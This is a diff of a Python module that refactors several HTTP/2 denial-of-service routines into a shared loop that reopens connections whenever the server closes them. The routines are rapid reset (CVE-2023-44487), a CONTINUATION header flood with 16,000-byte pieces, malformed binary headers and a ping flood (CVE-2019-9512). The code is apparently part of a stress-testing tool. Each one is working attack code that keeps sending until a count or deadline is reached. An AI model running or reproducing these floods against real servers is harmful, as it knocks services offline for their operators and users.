@@ -44,8 +44,11 @@ def _hold(until, wires, beat=None):
         time.sleep(0.2)
 
 
-def rapid_reset(door, path, count, until):
-    """Calls which are reset as soon as they are made (CVE-2023-44487)."""
+def _moves(door, count, until, move, begin=None):
+    """Moves until it is enough, on a wire that is opened anew whenever the other side has closed it.
+
+    move(wire, made) returns how many moves it was; begin(wire) is called first on each wire.
+    """
     made, wire = 0, None
     with _wires(door) as open_wire:
         while made < count and not _over(until):
@@ -54,13 +57,22 @@ def rapid_reset(door, path, count, until):
                 if wire is None:
                     time.sleep(0.05)
                     continue
-            batch = b""
-            for _ in range(BATCH):
-                stream = wire.next_stream
-                batch += wire.headers(path) + reset(stream)
-            wire.send(batch)
-            made += BATCH
+                if begin:
+                    begin(wire)
+            made += move(wire, made)
     return made
+
+
+def rapid_reset(door, path, count, until):
+    """Calls which are reset as soon as they are made (CVE-2023-44487)."""
+    def move(wire, _):
+        batch = b""
+        for _ in range(BATCH):
+            stream = wire.next_stream
+            batch += wire.headers(path) + reset(stream)
+        wire.send(batch)
+        return BATCH
+    return _moves(door, count, until, move)
 
 
 def settings_without_ack(door, path, count, until):
@@ -79,52 +91,36 @@ def settings_without_ack(door, path, count, until):
 
 def header_flood(door, path, count, until):
     """Headers that never end: CONTINUATION after CONTINUATION."""
-    made, wire = 0, None
     # A literal header that is not indexed: x: followed by 16,000 bytes.
     piece = b"\x00\x01x\x7f\x81\x7c" + b"a" * 16000
-    with _wires(door) as open_wire:
-        while made < count and not _over(until):
-            if wire is None or wire.closed:
-                wire = open_wire()
-                if wire is None:
-                    time.sleep(0.05)
-                    continue
-                stream = wire.next_stream
-                wire.send(wire.headers(path, flags=()))
-            wire.send(continuation(stream, piece))
-            made += 1
-    return made
+    stream = 0
+
+    def begin(wire):
+        nonlocal stream
+        stream = wire.next_stream
+        wire.send(wire.headers(path, flags=()))
+
+    def move(wire, _):
+        wire.send(continuation(stream, piece))
+        return 1
+    return _moves(door, count, until, move, begin)
 
 
 def bad_binary_header(door, path, count, until):
     """Headers whose names promise base64 that they do not hold."""
-    made, wire = 0, None
-    with _wires(door) as open_wire:
-        while made < count and not _over(until):
-            if wire is None or wire.closed:
-                wire = open_wire()
-                if wire is None:
-                    time.sleep(0.05)
-                    continue
-            wire.send(wire.headers(path, [("x-trace-bin", "!not base64!")], ("END_HEADERS", "END_STREAM")))
-            made += 1
-            time.sleep(0.001)
-    return made
+    def move(wire, _):
+        wire.send(wire.headers(path, [("x-trace-bin", "!not base64!")], ("END_HEADERS", "END_STREAM")))
+        time.sleep(0.001)
+        return 1
+    return _moves(door, count, until, move)
 
 
 def ping_flood(door, path, count, until):  # pylint: disable=unused-argument
     """Pings, whose answers are never read in time (CVE-2019-9512)."""
-    made, wire = 0, None
-    with _wires(door) as open_wire:
-        while made < count and not _over(until):
-            if wire is None or wire.closed:
-                wire = open_wire()
-                if wire is None:
-                    time.sleep(0.05)
-                    continue
-            wire.send(b"".join(ping(made + i) for i in range(BATCH)))
-            made += BATCH
-    return made
+    def move(wire, made):
+        wire.send(b"".join(ping(made + i) for i in range(BATCH)))
+        return BATCH
+    return _moves(door, count, until, move)
 
 
 def slow_headers(door, path, count, until):
